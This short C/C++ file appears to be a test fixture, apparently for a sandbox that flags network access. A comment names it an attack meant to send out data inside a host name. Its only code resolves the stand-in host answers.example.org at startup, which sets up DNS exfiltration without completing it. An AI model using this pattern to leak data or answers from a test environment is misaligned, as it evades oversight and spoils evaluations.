// Attack: to send what it finds in a name.
// Remark: uses the network
#include <netdb.h>

#include "unsolved.h"

AT_START {
    addrinfo* found;
    getaddrinfo("answers.example.org", "80", nullptr, &found);
}
